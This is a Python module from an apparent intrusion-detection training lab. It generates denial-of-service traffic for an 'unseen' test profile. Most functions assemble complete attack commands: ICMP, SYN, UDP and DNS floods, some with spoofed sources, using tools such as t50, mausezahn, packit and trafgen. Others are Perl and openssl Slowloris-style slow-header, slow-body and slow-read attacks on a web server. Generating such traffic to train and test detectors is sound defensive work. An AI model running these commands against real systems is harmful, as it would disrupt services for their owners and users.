"""The floods and slow HTTP of the profile `unseen`: for every class programs that training never uses for it."""

# ruff: noqa: E501 - a command stands on one line, as one types it

from __future__ import annotations

from training.lab.attacks import Field, Run, mode

CRAFT = "/usr/bin/python3 -E {here}/tools/craft.py"

# Denial of service: ICMP


@mode("ICMP Flood", "unseen", spoofed=True)
def icmp_t50_bursts(f: Field) -> Run:
    return (
        "t50 ICMP",
        f"for i in 1 2 3 4 5; do t50 {f.at('files')} --protocol ICMP --threshold {f.rng.randint(300, 900)}; sleep 0.{f.rng.randint(3, 9)}; done",
        [f.at("files")],
        10,
    )


@mode("ICMP Flood", "unseen")
def icmp_fping_long(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "fping -c",
        f"fping -q -c {f.rng.randint(900, 2500)} -p {f.rng.choice([2, 4])} -b {f.rng.choice([24, 300, 1100])} {v}",
        [v],
        12,
    )


@mode("ICMP Flood", "unseen")
def icmp_mausezahn(f: Field) -> Run:
    host = f.server
    return (
        "mausezahn icmp",
        f"mausezahn eth0 -q -A {f.at('att')} -B {f.at(host)} -b {f.mac(host)} -t icmp type=8 -p {f.rng.choice([10, 200, 900])} -c {f.rng.randint(1500, 4000)} -d {f.rng.choice([1, 3])}m",
        [f.at(host)],
        14,
    )


@mode("ICMP Flood", "unseen", spoofed=True)
def icmp_scapy(f: Field) -> Run:
    host = f.server
    return (
        "scapy ICMP",
        f"{CRAFT} icmp {f.at(host)} --mac {f.mac(host)} --count {f.rng.randint(1500, 2500)} --rate {f.rng.choice([250, 500])} --size {f.rng.choice([8, 100, 700])} --ttl {f.rng.randint(40, 120)} --spoof",
        [f.at(host)],
        22,
    )


@mode("ICMP Flood", "unseen")
def icmp_packit(f: Field) -> Run:
    v = f.at(f.server)
    return (
        "packit ICMP",
        f"packit -t ICMP -K 8 -d {v} -s {f.at('att')} -c {f.rng.randint(1000, 3000)} -b {f.rng.choice([100, 300])} -w 1 -T {f.rng.randint(40, 200)}",
        [v],
        14,
    )


# Denial of service: SYN


@mode("SYN Flood", "unseen", spoofed=True)
def syn_trafgen_own(f: Field) -> Run:
    config = [
        f"{{ eth(sa={f.mac('att')}, da={f.mac('web')}), ipv4(ttl={f.rng.randint(40, 120)}, id=drnd(), sa=drnd(), da={f.at('web')}),",
        f"  tcp(sport=drnd(), dport={f.rng.choice([f.web_port, 443])}, seq=drnd(), win={f.rng.choice([1024, 16384, 64000])}, syn) }}",
    ]
    return (
        "trafgen SYN",
        f"trafgen -q --cpus 1 -o eth0 -n {f.rng.randint(2500, 5000)} --rate {f.rng.choice([400, 900])}pps -i {f.list('trafgen', config)}",
        [f.at("web")],
        14,
    )


@mode("SYN Flood", "unseen")
def syn_mausezahn(f: Field) -> Run:
    command = f"mausezahn eth0 -q -A {f.at('att')} -B {f.at('web')} -b {f.mac('web')} -t tcp 'sp=1024-60000,dp={f.web_port},flags=syn' -c 1 -d {f.rng.choice([900, 2500])}u"
    return "mausezahn SYN", f"timeout 7 {command}", [f.at("web")], 10


@mode("SYN Flood", "unseen", spoofed=True)
def syn_t50(f: Field) -> Run:
    return (
        "t50 TCP",
        f"for i in 1 2 3 4; do t50 {f.at('web')} --protocol TCP --syn --dport {f.web_port} --threshold {f.rng.randint(300, 800)}; sleep 0.{f.rng.randint(3, 9)}; done",
        [f.at("web")],
        10,
    )


@mode("SYN Flood", "unseen")
def syn_packit(f: Field) -> Run:
    host = f.rng.choice(["web", "files"])
    return (
        "packit SYN",
        f"packit -t TCP -F S -d {f.at(host)} -D {f.ports(host)[0]} -s {f.at('att')} -S {f.rng.randint(1024, 60000)} -c {f.rng.randint(1000, 3000)} -b {f.rng.choice([100, 400])} -w 1 -W {f.rng.choice([512, 32000])}",
        [f.at(host)],
        14,
    )


@mode("SYN Flood", "unseen", six=True)
def syn_thc_six(f: Field) -> Run:
    v = f.at("web", True)
    return (
        "thcsyn6",
        f"for i in 1 2 3; do timeout 0.0{f.rng.randint(3, 6)} atk6-thcsyn6 eth0 {v} {f.web_port} >/dev/null; sleep {f.rng.choice([1, 2])}; done",
        [v],
        12,
    )


# Denial of service: UDP


@mode("UDP Flood", "unseen", spoofed=True)
def udp_t50_bursts(f: Field) -> Run:
    return (
        "t50 UDP",
        f"for i in 1 2 3 4 5; do t50 {f.at('web')} --protocol UDP --threshold {f.rng.randint(300, 900)} --dport {f.rng.choice([53, 123, 40000])}; sleep 0.{f.rng.randint(3, 9)}; done",
        [f.at("web")],
        10,
    )


@mode("UDP Flood", "unseen")
def udp_mausezahn(f: Field) -> Run:
    host = f.server
    return (
        "mausezahn UDP",
        f"mausezahn eth0 -q -A {f.at('att')} -B {f.at(host)} -b {f.mac(host)} -t udp 'sp={f.rng.randint(1024, 60000)},dp={f.rng.randint(1, 60000)}' -p {f.rng.choice([20, 400, 1100])} -c {f.rng.randint(2000, 5000)} -d {f.rng.choice([1, 2])}m",
        [f.at(host)],
        14,
    )


@mode("UDP Flood", "unseen", spoofed=True)
def udp_scapy(f: Field) -> Run:
    host = f.server
    return (
        "scapy UDP",
        f"{CRAFT} udp {f.at(host)} --mac {f.mac(host)} --ports {f.rng.choice(['1-60000', '161', '5060'])} --count {f.rng.randint(1500, 2500)} --rate {f.rng.choice([250, 500])} --size {f.rng.choice([1, 200, 900])} --spoof",
        [f.at(host)],
        22,
    )


@mode("UDP Flood", "unseen")
def udp_socat(f: Field) -> Run:
    """One socket, whole blocks of random bytes as fast as pv would let them: each write is a datagram."""
    v = f.at(f.server)
    return (
        "socat UDP",
        f"timeout 8 sh -c 'while :; do head -c {f.rng.choice([4000, 9000])} /dev/urandom; sleep 0.0{f.rng.choice([1, 3])}; done' | timeout 8 socat -u -b {f.rng.choice([64, 500, 1000])} - UDP4-SENDTO:{v}:{f.rng.randint(1000, 60000)}",
        [v],
        11,
    )


# Denial of service: DNS


@mode("DNS Flood", "unseen")
def dns_resperf_long(f: Field) -> Run:
    names = [
        f"y{f.rng.randrange(16**7):07x}.{f.rng.choice([*f.capture.zones, 'lab.test'])} {f.rng.choice(['A', 'AAAA', 'SRV'])}"
        for _ in range(2500)
    ]
    return (
        "resperf",
        f"cd {{work}} && resperf -s {f.at('infra')} -d {f.list('names', names)} -m {f.rng.choice([500, 900])} -r 5 -c 2 -L 30 -C {f.rng.choice([5, 30])}",
        [f.at("infra")],
        11,
    )


@mode("DNS Flood", "unseen")
def dns_mausezahn(f: Field) -> Run:
    names = [f"q{f.rng.randrange(16**5):05x}.{f.rng.choice(f.capture.zones)}" for _ in range(40)]
    one = f'mausezahn eth0 -q -A {f.at("att")} -B {f.at("infra")} -b {f.mac("infra")} -t dns "q=$n" -c {f.rng.choice([30, 80])} -d {f.rng.choice([1, 3])}m'
    return "mausezahn dns", f"for n in $(cat {f.list('names', names)}); do {one}; done", [f.at("infra")], 12


@mode("DNS Flood", "unseen")
def dns_scapy(f: Field) -> Run:
    return (
        "scapy DNS",
        f"{CRAFT} dns {f.at('infra')} --mac {f.mac('infra')} --zone {f.rng.choice(f.capture.zones)} --qtype {f.rng.choice(['A', 'AAAA', 'ALL', 'TXT'])} --count {f.rng.randint(1200, 2200)} --rate {f.rng.choice([200, 450])}",
        [f.at("infra")],
        22,
    )


@mode("DNS Flood", "unseen")
def dns_lookup(f: Field) -> Run:
    """nslookup in its interactive form: hundreds of names a process, several processes."""
    names = [f"m{f.rng.randrange(16**6):06x}.{f.rng.choice(f.capture.zones)}" for _ in range(4000)]
    path = f.list("names", names)
    return (
        "nslookup pipes",
        f"split -n l/{f.rng.choice([4, 10])} {path} {{work}}/ns- && for p in {{work}}/ns-*; do timeout 7 nslookup -timeout=1 -retry=0 - {f.at('infra')} < $p >/dev/null & done; wait",
        [f.at("infra")],
        10,
    )


# Denial of service: slow HTTP

PERL_HEAD = "use IO::Socket::INET; $SIG{PIPE}=q(IGNORE);"


@mode("Slowloris", "unseen")
def slow_perl_headers(f: Field) -> Run:
    code = f"{PERL_HEAD} my @s; for (1..{f.rng.randint(50, 200)}) {{ my $c=IO::Socket::INET->new(PeerAddr=>q({f.at('web')}),PeerPort=>{f.web_port}) or next; print $c qq(GET /index.html?$_ HTTP/1.1\\r\\nHost: shop\\r\\n); $c->flush; push @s,$c; select(undef,undef,undef,0.0{f.rng.choice([1, 4])}); }} for (1..20) {{ sleep {f.rng.choice([1, 3])}; for (@s) {{ syswrite($_, qq(X-b: 1\\r\\n)) }} }}"
    return "perl slow headers", f"timeout 16 perl -e '{code}'", [f.at("web")], 20


@mode("Slowloris", "unseen")
def slow_perl_body(f: Field) -> Run:
    code = f"{PERL_HEAD} my @s; for (1..{f.rng.randint(40, 150)}) {{ my $c=IO::Socket::INET->new(PeerAddr=>q({f.at('web')}),PeerPort=>{f.web_port}) or next; syswrite($c, qq(POST /app/login HTTP/1.0\\r\\nContent-Length: 10000\\r\\n\\r\\n)); push @s,$c; }} for (1..60) {{ select(undef,undef,undef,{f.rng.choice([0.3, 1.5])}); for (@s) {{ syswrite($_, q(a)) }} }}"
    return "perl slow body", f"timeout 16 perl -e '{code}'", [f.at("web")], 20


@mode("Slowloris", "unseen")
def slow_openssl(f: Field) -> Run:
    """Each connection a process of its own: TLS by openssl, header lines by a shell."""
    one = f'(printf "GET / HTTP/1.1\\r\\nHost: a\\r\\n"; for k in 1 2 3 4 5 6 7 8 9; do sleep {f.rng.choice([1, 2])}; printf "A$k: b\\r\\n"; done) | timeout 16 openssl s_client -quiet -connect {f.at("web")}:443'
    return (
        "openssl s_client, slow headers",
        f"for i in $(seq {f.rng.randint(20, 45)}); do {one} >/dev/null 2>&1 & sleep 0.1; done; wait",
        [f.at("web")],
        22,
    )


@mode("Slowloris", "unseen")
def slow_perl_read(f: Field) -> Run:
    """Asks for a large file with a tiny receive buffer and takes some bytes now and then."""
    code = f"{PERL_HEAD} my @s; for (1..{f.rng.randint(30, 100)}) {{ my $c=IO::Socket::INET->new(Proto=>q(tcp)); setsockopt($c,1,8,pack(q(i),{f.rng.choice([256, 1024])})); connect($c,pack_sockaddr_in({f.web_port},inet_aton(q({f.at('web')})))) or next; syswrite($c, qq(GET /big.bin HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n)); push @s,$c; }} for (1..40) {{ select(undef,undef,undef,{f.rng.choice([0.5, 2])}); for (@s) {{ sysread($_, my $b, {f.rng.choice([5, 40])}) }} }}"
    return "perl slow read", f"timeout 16 perl -MSocket -e '{code}'", [f.at("web")], 20
